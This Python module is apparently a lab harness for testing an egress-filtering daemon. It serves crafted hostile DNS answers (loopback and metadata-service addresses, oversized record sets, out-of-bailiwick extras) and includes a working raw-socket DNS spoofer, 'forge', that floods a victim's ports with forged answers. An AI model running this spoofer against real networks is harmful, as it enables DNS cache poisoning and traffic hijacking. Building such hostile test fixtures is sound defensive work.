"""A hostile upstream resolver for the lab: crafted answers, per name, over UDP and TCP.

    python -m egressd.lab.hostile_dns --listen 203.0.113.3 [--port 53] [--ready-file F]
    python -m egressd.lab.hostile_dns forge --src 203.0.113.3:53 --dst 10.99.0.1 --name N --forged-ip IP

It answers the names of ``ZONE`` (below ``hostile.test``) with what a malicious or broken zone
would send: special addresses (loopback, link-local and the metadata service, multicast,
unspecified and broadcast, the lab node's own addresses, IPv4-mapped forms), 3,000 records,
out-of-bailiwick extras in every section, TTL 0 and TTL 2^31-1, a CNAME chain that ends in
loopback; ``slow-*`` names are answered after ``--slow-delay`` seconds. Anything else is
NXDOMAIN. An answer larger than the query's UDP size (512, or its EDNS size) goes out over UDP
as header + question with TC set, so the client retries over TCP, where it is sent whole.

``forge`` is the other half of a hostile network: a blind spoofer that floods a node's
ephemeral ports with forged answers in the name of its resolver (see ``forge``).

Run both only inside the lab's "internet" namespace; the test modules import the tables below
to know what to expect. Stdlib asyncio plus dnslib.
"""

from __future__ import annotations

import argparse
import asyncio
import ipaddress
import json
import random
import signal
import struct
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from dnslib import AAAA, CNAME, NS, QTYPE, RCODE, RR, A, DNSRecord

DOMAIN = "hostile.test"
MANY_COUNT = 3000
TTL_MAX = 2**31 - 1
SLOW_PREFIX = "slow-"


def many_addresses(n: int = MANY_COUNT) -> list[str]:
    """The addresses of many.hostile.test, in answer order: shuffled, so that "the first N in
    answer order" differs from "the N lowest"."""
    order = random.Random(20240611).sample(range(n), n)
    return [f"10.201.{i // 250}.{i % 250 + 1}" for i in order]


def slow_address(name: str) -> str:
    """The one A record of a slow-<n> name: 198.51.100.(100 + n % 100)."""
    n = int(name.split(".", 1)[0][len(SLOW_PREFIX):] or 0)
    return f"198.51.100.{100 + n % 100}"


@dataclass(frozen=True)
class Reply:
    """Records of one crafted answer: (owner, type, value, ttl) per section."""

    answer: tuple[tuple[str, str, str, int], ...] = ()
    authority: tuple[tuple[str, str, str, int], ...] = ()
    additional: tuple[tuple[str, str, str, int], ...] = ()
    aaaa: tuple[tuple[str, str, str, int], ...] = ()  # the answer section of an AAAA query
    delay: float = 0.0


def _n(label: str) -> str:
    return f"{label}.{DOMAIN}"


def _a(owner: str, *ips: str, ttl: int = 300) -> tuple[tuple[str, str, str, int], ...]:
    return tuple((owner, "A", ip, ttl) for ip in ips)


def _aaaa(owner: str, *ips: str, ttl: int = 300) -> tuple[tuple[str, str, str, int], ...]:
    return tuple((owner, "AAAA", ip, ttl) for ip in ips)


# Every ordinary (programmable) address below is unique to its name, so no test sees another's
# entry already in the IP cache.
ZONE: dict[str, Reply] = {
    _n("loopback"): Reply(
        answer=_a(_n("loopback"), "127.0.0.1", "198.51.100.60", "127.1.2.3"),
        aaaa=_aaaa(_n("loopback"), "::1", "::ffff:127.0.0.1", "2001:db8:ff::60")),
    _n("linklocal"): Reply(
        answer=_a(_n("linklocal"), "169.254.169.254", "169.254.10.10", "198.51.100.61"),
        aaaa=_aaaa(_n("linklocal"), "fe80::1", "::ffff:169.254.169.254", "fd00:ec2::254")),
    _n("multicast"): Reply(
        answer=_a(_n("multicast"), "224.0.0.251", "239.1.2.3"),
        aaaa=_aaaa(_n("multicast"), "ff02::fb")),
    _n("unspecified"): Reply(
        answer=_a(_n("unspecified"), "0.0.0.0", "255.255.255.255"),
        aaaa=_aaaa(_n("unspecified"), "::")),
    # The lab node's own addresses: its uplink and its side of w1's link.
    _n("node"): Reply(
        answer=_a(_n("node"), "10.99.0.1", "10.77.1.1", "198.51.100.62"),
        aaaa=_aaaa(_n("node"), "2001:db8:99::1", "::ffff:10.99.0.1")),
    # 198.51.100.68 becomes a node address while the daemon runs (test_hostile_answers adds it).
    _n("new-node-address"): Reply(answer=_a(_n("new-node-address"), "198.51.100.68", "198.51.100.69")),
    # Private endpoints are real: allowed.
    _n("private"): Reply(
        answer=_a(_n("private"), "10.5.5.5", "172.16.5.5", "192.168.5.5", "100.64.5.5"),
        aaaa=_aaaa(_n("private"), "fd00:5::5")),
    _n("many"): Reply(answer=_a(_n("many"), *many_addresses())),
    _n("extras"): Reply(
        answer=(*_a(_n("extras"), "198.51.100.63"),
                *_a(_n("victim"), "192.0.2.166"),  # unrelated owner in the answer section
                *_a(f"x.{_n('extras')}", "192.0.2.165")),  # a child of the qname
        authority=((DOMAIN, "NS", f"ns.{DOMAIN}", 300), *_a(f"ns.{DOMAIN}", "192.0.2.167"),
                   *_a(_n("extras"), "192.0.2.168")),  # the qname, but in the authority section
        additional=(*_a(f"ns.{DOMAIN}", "192.0.2.169"), *_a(_n("extras"), "192.0.2.170"),
                    *_aaaa(_n("extras"), "2001:db8:ff::170"))),
    # For special_addresses = "refuse": one good and one loopback address; and a clean answer.
    _n("refuse"): Reply(answer=_a(_n("refuse"), "198.51.100.66", "127.0.0.1")),
    _n("clean"): Reply(answer=_a(_n("clean"), "198.51.100.67")),
    _n("ttl0"): Reply(answer=_a(_n("ttl0"), "198.51.100.64", ttl=0)),
    _n("ttlmax"): Reply(answer=_a(_n("ttlmax"), "198.51.100.65", ttl=TTL_MAX)),
    _n("chain"): Reply(
        answer=((_n("chain"), "CNAME", _n("c1"), 300), (_n("c1"), "CNAME", "c2.elsewhere.test", 300),
                *_a("c2.elsewhere.test", "127.0.0.53")),
        aaaa=((_n("chain"), "CNAME", _n("c1"), 300), (_n("c1"), "CNAME", "c2.elsewhere.test", 300),
              *_aaaa("c2.elsewhere.test", "::1"))),
}
#: Addresses that must never be in an allow set, whatever the test.
NEVER_PROGRAMMED = frozenset(
    rec[2] for r in ZONE.values() for rec in (*r.authority, *r.additional)
    if rec[1] in ("A", "AAAA")
) | {"192.0.2.166", "192.0.2.165"}

_RTYPES: dict[str, tuple[int, Callable[[str], object]]] = {
    "A": (QTYPE.A, A), "AAAA": (QTYPE.AAAA, lambda v: AAAA(tuple(ipaddress.IPv6Address(v).packed))), "CNAME": (QTYPE.CNAME, CNAME), "NS": (QTYPE.NS, NS),
}


def _rr(owner: str, rtype: str, value: str, ttl: int) -> RR:
    code, make = _RTYPES[rtype]
    return RR(owner, code, rdata=make(value), ttl=ttl)


def lookup(qname: str, qtype: int, slow_delay: float) -> tuple[Reply | None, float]:
    name = qname.lower().rstrip(".")
    if name.startswith(SLOW_PREFIX) and name.endswith("." + DOMAIN):
        recs = _a(name, slow_address(name)) if qtype == QTYPE.A else ()
        return Reply(answer=recs), slow_delay
    return ZONE.get(name), 0.0


def respond(wire: bytes, slow_delay: float, *, udp: bool) -> tuple[bytes | None, float]:
    """The answer to one query message and how long to hold it (None: no answer)."""
    try:
        req = DNSRecord.parse(wire)
    except Exception:  # noqa: BLE001 - garbage of any kind gets no answer
        return None, 0.0
    if req.header.qr or len(req.questions) != 1:
        return None, 0.0
    q = req.questions[0]
    reply, delay = lookup(str(q.qname), q.qtype, slow_delay)
    out = req.reply()  # id, question, RD kept; QR, AA, RA set
    out.ar = []
    if reply is None:
        out.header.rcode = RCODE.NXDOMAIN
    else:
        for rec in reply.aaaa if q.qtype == QTYPE.AAAA else reply.answer:
            if q.qtype in (QTYPE.A, QTYPE.AAAA) or rec[1] == "CNAME":
                out.add_answer(_rr(*rec))
        for rec in reply.authority:
            out.add_auth(_rr(*rec))
        for rec in reply.additional:
            out.add_ar(_rr(*rec))
    packed = out.pack()
    if udp:
        limit = max([512] + [rr.rclass for rr in req.ar if rr.rtype == QTYPE.OPT])
        if len(packed) > limit:
            head = req.reply()  # header + question only, with TC: "retry over TCP"
            head.ar = []
            head.header.tc = 1
            packed = head.pack()
    return packed, delay


class _Udp(asyncio.DatagramProtocol):
    def __init__(self, slow_delay: float) -> None:
        self.slow_delay = slow_delay
        self.transport: asyncio.DatagramTransport | None = None

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        self.transport = transport  # type: ignore[assignment]

    def datagram_received(self, data: bytes, addr: tuple) -> None:  # type: ignore[type-arg]
        out, delay = respond(data, self.slow_delay, udp=True)
        if out is None or self.transport is None:
            return
        if delay:
            asyncio.get_running_loop().call_later(delay, self._send, out, addr)
        else:
            self._send(out, addr)

    def _send(self, out: bytes, addr: tuple) -> None:  # type: ignore[type-arg]
        if self.transport is not None and not self.transport.is_closing():
            self.transport.sendto(out, addr)


async def _tcp_client(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, slow_delay: float) -> None:
    try:
        while True:
            (size,) = struct.unpack("!H", await asyncio.wait_for(reader.readexactly(2), 10))
            out, delay = respond(await reader.readexactly(size), slow_delay, udp=False)
            if out is None:
                break
            if delay:
                await asyncio.sleep(delay)
            writer.write(struct.pack("!H", len(out)) + out)
            await writer.drain()
    except (asyncio.IncompleteReadError, TimeoutError, ConnectionError):
        pass
    finally:
        writer.close()


async def serve(listen: list[str], port: int, slow_delay: float, ready_file: str | None) -> None:
    loop = asyncio.get_running_loop()
    stop = loop.create_future()
    for sig in (signal.SIGTERM, signal.SIGINT):
        loop.add_signal_handler(sig, lambda: stop.done() or stop.set_result(None))
    servers = []
    for host in listen:
        await loop.create_datagram_endpoint(lambda: _Udp(slow_delay), local_addr=(host, port))
        servers.append(await asyncio.start_server(
            lambda r, w: _tcp_client(r, w, slow_delay), host, port, reuse_address=True))
    if ready_file:
        Path(ready_file).write_text("ready\n")
    await stop
    for s in servers:
        s.close()


def forge(src: str, dst: str, ports: tuple[int, int], names: list[str], forged_ip: str, count: int,
          seconds: float, rate: float) -> dict[str, int | float]:
    """Blind off-path spoofing: send forged A answers (``names[i]`` -> ``forged_ip``) from ``src``
    ("ip:port", the resolver being impersonated) to random ports of ``dst`` with random DNS IDs,
    at most ``count`` packets, ``seconds`` long (SIGTERM ends it sooner), about ``rate`` per
    second. The packets are built with scapy once per name; each copy gets a new destination
    port and ID (UDP checksum 0, which IPv4 allows) and goes out through a raw socket. Needs
    CAP_NET_RAW."""
    import socket
    import time

    from scapy.layers.dns import DNS, DNSQR, DNSRR
    from scapy.layers.inet import IP, UDP

    src_ip, src_port = src.rsplit(":", 1)
    templates = []
    for name in names:
        pkt = (IP(src=src_ip, dst=dst, ttl=64) / UDP(sport=int(src_port), dport=ports[0], chksum=0)
               / DNS(id=0, qr=1, aa=1, rd=1, ra=1, qd=DNSQR(qname=name, qtype="A"),
                     an=DNSRR(rrname=name, type="A", ttl=86400, rdata=forged_ip)))
        raw = bytearray(bytes(pkt))
        raw[26:28] = b"\0\0"  # no UDP checksum: the port and ID change per copy
        templates.append(raw)
    rng = random.SystemRandom()
    lo, hi = ports
    stopped: list[int] = []  # SIGTERM ends the flood early; the totals are still reported
    previous = signal.signal(signal.SIGTERM, lambda signum, _frame: stopped.append(signum))
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent = errors = 0
    t0 = time.monotonic()
    batch = 64
    try:
        while sent < count and time.monotonic() - t0 < seconds and not stopped:
            for _ in range(min(batch, count - sent)):
                raw = templates[rng.randrange(len(templates))]
                raw[22:24] = rng.randrange(lo, hi + 1).to_bytes(2, "big")
                raw[28:30] = rng.randrange(0x10000).to_bytes(2, "big")
                try:
                    sock.sendto(raw, (dst, 0))
                    sent += 1
                except OSError:
                    errors += 1
            ahead = sent / rate - (time.monotonic() - t0)
            if ahead > 0:
                time.sleep(ahead)
    finally:
        sock.close()
        signal.signal(signal.SIGTERM, previous)
    return {"sent": sent, "errors": errors, "seconds": round(time.monotonic() - t0, 3)}


def main(argv: list[str] | None = None) -> int:
    argv = sys.argv[1:] if argv is None else argv
    if argv[:1] == ["forge"]:
        fp = argparse.ArgumentParser(prog="egressd.lab.hostile_dns forge", description=forge.__doc__.split("\n")[0])
        fp.add_argument("--src", required=True, help="ip:port of the resolver to impersonate")
        fp.add_argument("--dst", required=True, help="the victim's address")
        fp.add_argument("--ports", default="32768-60999", help="destination port range lo-hi")
        fp.add_argument("--name", action="append", required=True, help="name to forge answers for (repeatable)")
        fp.add_argument("--forged-ip", required=True)
        fp.add_argument("--count", type=int, default=10000)
        fp.add_argument("--seconds", type=float, default=10.0)
        fp.add_argument("--rate", type=float, default=10000.0, help="packets per second (about)")
        fa = fp.parse_args(argv[1:])
        lo, hi = (int(x) for x in fa.ports.split("-"))
        result = forge(fa.src, fa.dst, (lo, hi), fa.name, fa.forged_ip, fa.count, fa.seconds, fa.rate)
        print(json.dumps(result), flush=True)
        return 0
    ap = argparse.ArgumentParser(prog="egressd.lab.hostile_dns", description=__doc__.split("\n")[0])
    ap.add_argument("--listen", action="append", required=True, help="address to bind (repeatable)")
    ap.add_argument("--port", type=int, default=53)
    ap.add_argument("--slow-delay", type=float, default=0.3, help="seconds before answering slow-* names")
    ap.add_argument("--ready-file", help="written once every socket is bound")
    args = ap.parse_args(argv)
    asyncio.run(serve(args.listen, args.port, args.slow_delay, args.ready_file))
    return 0


if __name__ == "__main__":
    sys.exit(main())
